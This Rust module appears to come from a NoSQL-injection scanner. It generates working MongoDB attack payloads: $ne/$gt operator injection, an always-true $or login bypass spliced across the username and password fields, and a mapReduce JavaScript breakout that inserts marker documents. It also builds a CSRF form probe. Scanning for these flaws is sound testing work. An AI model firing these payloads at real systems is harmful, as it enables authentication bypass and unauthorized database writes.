//! The attack catalog. Bodies are exactly what goes on the wire: every
//! byte outside the URI unreserved set is percent-encoded, and the
//! decode round-trip is pinned by tests.

use crate::config::{AttackClass, EndpointSpec, ScanError};

#[derive(Debug, Clone, PartialEq)]
pub struct Payload {
    pub class: AttackClass,
    pub name: String,
    pub method: String,
    pub content_type: String,
    pub body: Vec<u8>,
    pub notes: String,
    /// The form fields the body encodes, for round-trip verification.
    pub fields: Vec<(String, String)>,
}

pub const FORM_CONTENT_TYPE: &str = "application/x-www-form-urlencoded";

/// Percent-encode everything outside `A-Z a-z 0-9 - _ . ~`.
pub fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            other => format!("%{other:02X}"),
        })
        .collect()
}

pub fn urlencode_pairs(fields: &[(String, String)]) -> String {
    fields
        .iter()
        .map(|(k, v)| format!("{}={}", urlencode(k), urlencode(v)))
        .collect::<Vec<_>>()
        .join("&")
}

/// The script-breakout field value: closes the template's emit call, for
/// loop and map function, completes the mapReduce call with a no-op
/// reduce, inserts a marker document, and opens a balancing mapReduce
/// that the template's own closing tokens finish.
pub fn js_breakout(marker_collection: &str) -> String {
    format!(
        "a); }} }},function(kv) {{ return 1; }}, {{ out: 'x' }});\
         db.{marker_collection}.insert({{success:1}});\
         return 1;db.stores.mapReduce(function() {{ {{ emit(1,1"
    )
}

/// The two-field OR-injection split: the first field closes the username
/// literal and opens an always-true `$or`; the second closes the
/// password literal and comments the remainder away.
pub fn or_injection_fields(known_username: &str) -> (String, String) {
    (
        format!("{known_username}', $or: [ {{}}, {{ 'a': 'a"),
        "' } ], $comment: 'successful MongoDB injection".to_string(),
    )
}

fn form_payload(
    class: AttackClass,
    name: impl Into<String>,
    fields: Vec<(String, String)>,
    notes: impl Into<String>,
) -> Payload {
    let body = urlencode_pairs(&fields).into_bytes();
    Payload {
        class,
        name: name.into(),
        method: "POST".to_string(),
        content_type: FORM_CONTENT_TYPE.to_string(),
        body,
        notes: notes.into(),
        fields,
    }
}

/// Build the catalog for one class against one endpoint. `run_id` makes
/// marker names unique per scan run.
pub fn generate_payloads(
    class: AttackClass,
    spec: &EndpointSpec,
    run_id: &str,
) -> Result<Vec<Payload>, ScanError> {
    match class {
        AttackClass::ArrayInjection => {
            if spec.params.len() < 2 {
                return Err(ScanError::Config(format!(
                    "array_injection against {} needs two or more params",
                    spec.path
                )));
            }
            let mut payloads = Vec::new();
            for target in &spec.params {
                let fields = spec
                    .params
                    .iter()
                    .map(|p| {
                        if p == target {
                            (format!("{p}[$ne]"), "1".to_string())
                        } else {
                            (p.clone(), "1".to_string())
                        }
                    })
                    .collect();
                payloads.push(form_payload(
                    class,
                    format!("ne_{target}"),
                    fields,
                    format!("operator object on {target} only"),
                ));
            }
            payloads.push(form_payload(
                class,
                "ne_all",
                spec.params
                    .iter()
                    .map(|p| (format!("{p}[$ne]"), "1".to_string()))
                    .collect(),
                "not-equals operator on every parameter",
            ));
            payloads.push(form_payload(
                class,
                "gt_empty_all",
                spec.params
                    .iter()
                    .map(|p| (format!("{p}[$gt]"), String::new()))
                    .collect(),
                "greater-than-empty operator on every parameter",
            ));
            Ok(payloads)
        }
        AttackClass::OrInjection => {
            if spec.params.len() < 2 {
                return Err(ScanError::Config(format!(
                    "or_injection against {} needs two params",
                    spec.path
                )));
            }
            let Some(known) = spec.known_username.as_deref() else {
                return Err(ScanError::Config(format!(
                    "or_injection against {} needs known_username",
                    spec.path
                )));
            };
            let (username, password) = or_injection_fields(known);
            Ok(vec![form_payload(
                class,
                "or_split",
                vec![
                    (spec.params[0].clone(), username),
                    (spec.params[1].clone(), password),
                ],
                "always-true $or branch spliced across both fields",
            )])
        }
        AttackClass::JsInjection => {
            let Some(param) = spec.params.first() else {
                return Err(ScanError::Config(format!(
                    "js_injection against {} needs a param",
                    spec.path
                )));
            };
            Ok(vec![form_payload(
                class,
                "mapreduce_breakout",
                vec![(param.clone(), js_breakout(&marker_collection(run_id)))],
                "statement breakout inserting a marker document",
            )])
        }
        AttackClass::CsrfProbe => Ok(vec![form_payload(
            class,
            "form_insert",
            vec![(format!("csrfmark{run_id}"), "1".to_string())],
            "urlencoded browser-form insert",
        )]),
    }
}

pub fn marker_collection(run_id: &str) -> String {
    format!("inj{run_id}")
}
